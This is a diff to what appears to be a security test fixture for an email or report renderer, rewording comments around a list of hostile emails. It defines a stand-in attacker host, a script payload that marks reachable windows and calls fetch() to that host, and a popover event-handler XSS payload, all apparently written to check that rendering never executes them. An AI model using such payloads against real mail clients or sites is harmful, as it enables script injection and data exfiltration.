@@ -1,7 +1,7 @@
-/** Where the attacker waits: a request to it, or a page that leads there, is a defeat. */
+/** The attacker’s host. A request or a navigation to it is a breach. */
 export const EVIL = 'evil.example';
 const U = `https://${EVIL}`;
-/** Marks the window it runs in, in every way that a script could reach out. */
+/** Marks every window that the script can reach, and calls the attacker. */
 const RUN = `try{top.executed=1}catch(e){}try{parent.executed=1}catch(e){}executed=1;fetch('${U}/run')`;
 
 const scripts = [
@@ -117,7 +117,7 @@ const breaking = [
   `<div popover id=p onbeforetoggle="${RUN}">x</div><button popovertarget=p autofocus>x</button>`,
 ];
 
-/** A hundred emails that must never be sent. Each is also a text that could appear in a report. */
+/** A hundred hostile emails, which are also used as texts of a report. */
 export const hostileMails: readonly string[] = [
   ...scripts,
   ...events,
